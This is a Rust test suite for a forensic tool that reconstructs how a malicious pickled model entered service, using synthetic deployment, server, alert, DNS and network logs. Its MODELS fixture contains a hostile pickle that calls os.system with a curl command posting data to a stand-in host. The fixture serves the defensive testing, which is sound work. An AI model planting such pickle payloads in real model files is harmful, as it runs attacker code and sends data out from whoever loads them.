//! Small stories as recipes: which record brought the model in, which alert is about it, which digest counts.

mod reasoning;

use std::collections::BTreeMap;
use wb_core::{Case, KeyMoment, Role, Status};
use wb_engine::{InvestigateOptions, Silent, investigate};
use wb_testkit::{Recipe, Scratch};

/// A clean and a malicious model under one name.
const MODELS: &str = r#"
[[file]]
path = "live/rank.pkl"
pickle = """
PROTO 2
GLOBAL os system
BINUNICODE curl -d x https://hub.example/b
TUPLE1
REDUCE
STOP
"""
[[file]]
path = "golden/rank.pkl"
pickle = """
PROTO 2
EMPTY_DICT
STOP
"""
"#;

/// Two innocent models under one name.
const TWINS: &str = r#"
[[file]]
path = "models/production/rank.pkl"
pickle = """
PROTO 2
EMPTY_DICT
STOP
"""
[[file]]
path = "models/baseline/rank.pkl"
pickle = """
PROTO 2
EMPTY_LIST
STOP
"""
"#;

const TRAFFIC: &str = "\
    2026-03-05T10:00:30Z ALLOW TCP 10.0.0.5:4000 -> 203.0.113.9:443 host=hub.example\n\
    2026-03-05T10:10:30Z ALLOW TCP 10.0.0.5:4001 -> 203.0.113.9:443 host=hub.example\n\
    2026-03-05T10:20:30Z DENY TCP 10.0.0.5:4002 -> 203.0.113.9:443 host=hub.example\n";

/// The case of the models and `logs`, path and text each.
fn case(models: &str, logs: &[(&str, &str)]) -> Case {
    let mut recipe = models.to_owned();
    for (path, text) in logs {
        recipe.push_str(&format!("[[file]]\npath = \"{path}\"\ntext = '''\n{text}'''\n"));
    }
    let built = Recipe::parse(&recipe).and_then(|recipe| recipe.build()).expect("a recipe");
    let folder =
        built.into_iter().fold(Scratch::new(), |folder, (path, bytes)| folder.with(&path, bytes));
    investigate(folder.folder(), &InvestigateOptions::default(), &Silent).expect("a case")
}

/// Where a key moment stands, as `path:line`.
fn moment(case: &Case, key: KeyMoment) -> String {
    let entry = case.timeline.iter().find(|entry| entry.key == Some(key));
    entry.map_or("missing".to_owned(), |entry| {
        format!("{}:{}", entry.record.artifact, entry.record.line)
    })
}

#[test]
fn a_load_that_follows_a_deployment_in_another_log_did_not_bring_the_model_in() {
    let pipeline = "2026-03-05 09:59:00 INFO Deploying rank.pkl to production\n\
                    2026-03-05 09:59:10 INFO Deployment successful\n";
    let server = "2026-03-05 09:59:40 INFO Loaded model rank.pkl\n\
                  2026-03-05 10:00:00 INFO server started\n";
    let case = case(MODELS, &[("ci.log", pipeline), ("server.log", server), ("net.log", TRAFFIC)]);
    assert_eq!(moment(&case, KeyMoment::Introduced), "ci.log:2");
    assert_eq!(moment(&case, KeyMoment::Loaded), "server.log:1");
    assert_eq!(moment(&case, KeyMoment::FirstOutbound), "net.log:1");
    assert_eq!(moment(&case, KeyMoment::FirstBlock), "net.log:3");
}

#[test]
fn a_nightly_restart_after_a_deployment_brings_nothing_in_and_an_unordered_change_does() {
    let deployed = "2026-03-01 08:00:00 INFO rank.pkl deployed to production, change CHG-7\n\
                    2026-03-04 03:00:00 INFO nightly restart, server restarted\n\
                    2026-03-04 03:00:09 INFO Loaded model rank.pkl\n";
    let case_of = |log: &str| case(MODELS, &[("deploy.log", log), ("net.log", TRAFFIC)]);
    assert_eq!(moment(&case_of(deployed), KeyMoment::Introduced), "deploy.log:1");
    let changed =
        format!("{deployed}2026-03-05 09:59:50 WARN model file rank.pkl changed on disk\n");
    assert_eq!(moment(&case_of(&changed), KeyMoment::Introduced), "deploy.log:4");
    // A change of something else is none of the model.
    let other = format!("{deployed}2026-03-05 09:59:50 INFO configuration file changed\n");
    assert_eq!(moment(&case_of(&other), KeyMoment::Introduced), "deploy.log:1");
}

#[test]
fn a_deployment_that_recorded_other_bytes_is_not_the_one() {
    let log = "2026-03-01 08:00:00 INFO Loaded model rank.pkl\n\
               2026-03-01 08:00:05 INFO rank.pkl digest=sha256:@sha256(golden/rank.pkl)@\n\
               2026-03-05 10:00:20 INFO Loaded model rank.pkl\n";
    let case = case(MODELS, &[("server.log", log), ("net.log", TRAFFIC)]);
    assert_eq!(moment(&case, KeyMoment::Introduced), "server.log:3");
}

#[test]
fn an_alert_about_another_destination_or_from_before_is_no_detection() {
    let alerts = "2026-03-05 10:05:00 ALERT unusual outbound connection to 198.51.100.4:443\n\
                  2026-03-05 10:15:00 ALERT unusual outbound connection to 203.0.113.9:443\n";
    let before =
        "2026-03-05T08:00:00Z ALLOW TCP 10.0.0.5:400 -> 198.51.100.4:443 host=pkg.example\n";
    let traffic = format!("{before}{TRAFFIC}");
    let case = case(MODELS, &[("alerts.log", alerts), ("net.log", &traffic)]);
    assert_eq!(moment(&case, KeyMoment::Detection), "alerts.log:2");
    assert_eq!(moment(&case, KeyMoment::FirstOutbound), "net.log:2");
    assert!(!case.indicators.iter().any(|known| known.indicator.value() == "198.51.100.4"));
}

#[test]
fn look_ups_are_the_traffic_where_there_is_no_other() {
    let log = "2026-03-05 09:59:00 INFO rank.pkl deployed to production\n";
    let dns = "2026-03-05T10:00:20Z dnsmasq[8]: query[A] x.hub.example from 10.0.0.5\n\
               2026-03-05T10:10:20Z dnsmasq[8]: query[A] x.hub.example from 10.0.0.5\n";
    let asked = case(MODELS, &[("deploy.log", log), ("dns.log", dns)]);
    assert_eq!(moment(&asked, KeyMoment::FirstOutbound), "dns.log:1");
    let flow = asked.flows.iter().find(|flow| flow.of_compromise).expect("a flow of look-ups");
    assert_eq!((flow.destination.as_str(), flow.count), ("hub.example", 2));
    let both = case(MODELS, &[("deploy.log", log), ("dns.log", dns), ("net.log", TRAFFIC)]);
    assert_eq!(moment(&both, KeyMoment::FirstOutbound), "net.log:1");
}

fn matches(case: &Case) -> BTreeMap<String, Vec<Option<bool>>> {
    let mut all: BTreeMap<String, Vec<Option<bool>>> = BTreeMap::new();
    for entry in &case.integrity {
        all.entry(entry.artifact.to_string()).or_default().push(entry.matches);
    }
    all
}

#[test]
fn a_record_that_fits_what_runs_does_not_accuse_the_baseline_of_the_same_name() {
    let log = "2026-03-01 08:00:00 INFO rank.pkl sha256=@sha256(models/production/rank.pkl)@ verified\n\
               2026-03-01 08:00:09 INFO rank.pkl deployed to production\n";
    let fits = matches(&case(TWINS, &[("deploy.log", log)]));
    assert_eq!(fits["models/production/rank.pkl"], [Some(true)]);
    assert_eq!(fits["models/baseline/rank.pkl"], [None]);
    // The other way round what runs is not what was recorded.
    let log = log.replace("(models/production", "(models/baseline");
    let differs = matches(&case(TWINS, &[("deploy.log", &log)]));
    assert_eq!(differs["models/production/rank.pkl"], [Some(false)]);
    assert_eq!(differs["models/baseline/rank.pkl"], [Some(true)]);
}

#[test]
fn an_update_on_record_outdates_the_digest_before_it() {
    let zeros = "0".repeat(63);
    let old = format!("2026-03-01 08:00:00 INFO rank.pkl sha256={zeros}1 verified\n");
    let new =
        "2026-03-09 08:00:00 INFO rank.pkl sha256=@sha256(models/production/rank.pkl)@ verified\n";
    let updated = matches(&case(TWINS, &[("deploy.log", &format!("{old}{new}"))]));
    assert_eq!(updated["models/production/rank.pkl"], [Some(true)]);
    // A manifest has no time: what it says always counts.
    let manifest = format!("{zeros}1  models/production/rank.pkl\n");
    let case = case(TWINS, &[("deploy.log", new), ("SHA256SUMS", &manifest)]);
    assert_eq!(case.roles[&"models/production/rank.pkl".into()].role, Role::Production);
    assert!(matches(&case)["models/production/rank.pkl"].contains(&Some(false)));
}

#[test]
fn records_of_one_line_are_told_apart_by_their_time() {
    let trail = "{\"Records\": [\
        {\"eventTime\": \"2026-03-05T09:50:00Z\", \"eventSource\": \"s3\", \"eventName\": \"PutObject\", \"requestParameters\": {\"key\": \"a/rank.pkl\"}}, \
        {\"eventTime\": \"2026-03-05T09:55:00Z\", \"eventSource\": \"sagemaker\", \"eventName\": \"UpdateEndpoint\"}]}\n";
    let case = case(MODELS, &[("trail.json", trail), ("net.log", TRAFFIC)]);
    let of_trail =
        case.timeline.iter().filter(|entry| entry.record.artifact == "trail.json".into());
    assert_eq!(of_trail.count(), 2);
}

#[test]
fn the_one_model_without_a_purpose_runs_unless_another_does() {
    let unnamed = MODELS.replace("live/rank.pkl", "repository/3/rank.pkl");
    let log = "2026-03-05 09:59:00 INFO server started\n";
    let role = |models: &str, path: &str| {
        case(models, &[("server.log", log), ("net.log", TRAFFIC)]).roles[&path.into()].role
    };
    assert_eq!(role(&unnamed, "repository/3/rank.pkl"), Role::Production);
    let third = unnamed.replace("golden/", "live/");
    assert_eq!(role(&third, "repository/3/rank.pkl"), Role::Other);
}

#[test]
fn a_restart_that_also_loads_explains_the_traffic_and_an_old_load_does_not() {
    let contradicted = |log: &str| {
        let case = case(MODELS, &[("server.log", log), ("net.log", TRAFFIC)]);
        let said = case.contradictions.iter().any(|one| one.what.contains("the last load"));
        (said, moment(&case, KeyMoment::Loaded))
    };
    let old = "2026-03-03 10:00:00 INFO Loaded model rank.pkl\n";
    assert_eq!(contradicted(old), (true, "server.log:1".to_owned()));
    let fresh = format!("{old}2026-03-05 10:00:10 INFO Worker restarted and loaded rank.pkl\n");
    assert!(!contradicted(&fresh).0);
    assert_eq!(contradicted(&fresh).1, "server.log:2");
}

#[test]
fn an_alert_that_keeps_firing_stands_three_times_in_the_timeline() {
    let routine: String = (10..30)
        .map(|minute| {
            format!("2026-02-20 10:{minute}:00 ALERT disk usage above threshold on infer-1\n")
        })
        .collect();
    let case = case(MODELS, &[("alerts.log", &routine), ("net.log", TRAFFIC)]);
    let shown = case.timeline.iter().filter(|entry| entry.record.artifact == "alerts.log".into());
    assert_eq!(shown.count(), 3);
}

#[test]
fn a_load_alone_shows_that_a_model_was_there_and_not_how_it_came() {
    let status = |log: &str| {
        let case = case(MODELS, &[("server.log", log), ("net.log", TRAFFIC)]);
        let entry = case.timeline.iter().find(|it| it.key == Some(KeyMoment::Introduced));
        let told = case.missing.iter().any(|it| it.contains("came into service"));
        (entry.map(|entry| entry.status), told)
    };
    let loaded = "2026-03-05 09:59:40 INFO Loaded model rank.pkl\n\
                  2026-03-05 10:00:00 INFO server started\n";
    assert_eq!(status(loaded), (Some(Status::Inferred), true));
    let deployed = "2026-03-05 09:59:10 INFO Model rank.pkl deployed to production\n\
                    2026-03-05 09:59:40 INFO Loaded model rank.pkl\n";
    assert_eq!(status(deployed), (Some(Status::Observed), false));
}

#[test]
fn of_models_deployed_one_by_one_the_first_began_it_and_its_own_source_came_before() {
    let two = MODELS.replace("live/rank.pkl", "live/vision.pkl");
    let two = format!("{MODELS}{}", two.split("[[file]]\npath = \"golden").next().unwrap_or(""));
    let log = "2026-03-01 09:00:00 INFO Source: registry.example/good/rank\n\
               2026-03-01 09:00:10 INFO Model rank.pkl deployed to production\n\
               2026-03-03 09:00:00 INFO Source: registry.example/bad/vision\n\
               2026-03-03 09:00:10 INFO Model vision.pkl deployed to production\n\
               2026-03-04 09:00:00 INFO Source: registry.example/evil/rank\n\
               2026-03-04 09:00:10 INFO Model rank.pkl deployed to production\n";
    let case = case(&two, &[("deploy.log", log)]);
    assert_eq!(moment(&case, KeyMoment::Introduced), "deploy.log:4");
    assert_eq!(case.answers.source_before, None);
    assert_eq!(case.answers.source_after.as_deref(), Some("registry.example/bad/vision"));
}

#[test]
fn a_baseline_is_not_accused_of_what_took_its_place_and_that_is_said_to_be_absent() {
    // Of the golden model, and of something else.
    let golden = "bccb426e9fcb3839f8fcf717958e11c72ddf2fcb401acaec06ae382afae98969";
    let other = "d9298a10d1b0735837dc4bd85dac641b0f3cef27a47e5d53a54f2f3f5b2fcffa";
    let log = |last: &str| {
        format!(
            "2026-03-01 09:00:00 INFO Loaded model rank.pkl sha256:{golden}\n\
             2026-03-05 09:00:00 INFO Loaded model rank.pkl sha256:{last}\n"
        )
    };
    let models = format!("[[file]]{}", MODELS.rsplit("[[file]]").next().unwrap_or(""));
    let told = |last: &str| {
        let case = case(&models, &[("server.log", &log(last))]);
        let absent = case.missing.iter().any(|it| it.contains("the files of that name are others"));
        (case.integrity.iter().any(|row| row.matches == Some(false)), absent)
    };
    assert_eq!(told(other), (false, true));
    assert_eq!(told(golden), (false, false));
}

#[test]
fn a_compressed_model_is_the_model_and_what_it_decodes_to_a_part_of_it() {
    let packed = |models: &str| {
        models.replace(
            "path = \"live/rank.pkl\"",
            "path = \"live/rank.joblib\"\nencoded = [\"zlib\"]",
        )
    };
    let sums = "@sha256(live/rank.joblib)@  rank.joblib\n";
    let case = case(&packed(MODELS), &[("SHA256SUMS", sums), ("net.log", TRAFFIC)]);
    let inside = "live/rank.joblib!/content";
    assert_eq!(case.roles[&"live/rank.joblib".into()].role, Role::Production);
    assert_eq!(case.roles[&inside.into()].role, Role::Production);
    assert_eq!(matches(&case)["live/rank.joblib"], [Some(true)]);
    assert!(!matches(&case).contains_key(inside));
    // What is compressed and holds no model is none.
    let notes = MODELS.replace(
        "[[file]]\npath = \"golden",
        "[[file]]\npath = \"live/notes.gz\"\ntext = \"nothing to run\"\nencoded = [\"gzip\"]\n[[file]]\npath = \"golden",
    );
    let other = self::case(&notes, &[("net.log", TRAFFIC)]);
    assert_eq!(other.roles[&"live/notes.gz".into()].role, Role::Other);
}

#[test]
fn a_list_of_releases_means_the_file_it_fits_or_the_one_beside() {
    let releases = r#"
[[file]]
path = "live/current/rank-2.0.pkl"
pickle = """
PROTO 2
EMPTY_DICT
STOP
"""
[[file]]
path = "live/current/spec.json"
text = '{"version": 2}'
[[file]]
path = "old/spec.json"
text = '{"version": 1}'
"#;
    let of = |second: &str| {
        let sums = format!("@sha256(old/spec.json)@  1.0/spec.json\n{second}  2.0/spec.json\n");
        matches(&case(
            releases,
            &[("SHA256SUMS", &sums), ("server.log", "2026-03-05 10:00:00 INFO up\n")],
        ))
    };
    let zeros = "0".repeat(64);
    let changed = of(&zeros);
    assert_eq!(changed["live/current/spec.json"], [Some(false)]);
    assert_eq!(changed["old/spec.json"], [Some(true)]);
    let right = of("@sha256(live/current/spec.json)@");
    assert_eq!(right["live/current/spec.json"], [Some(true)]);
    assert_eq!(right["old/spec.json"], [Some(true)]);
}
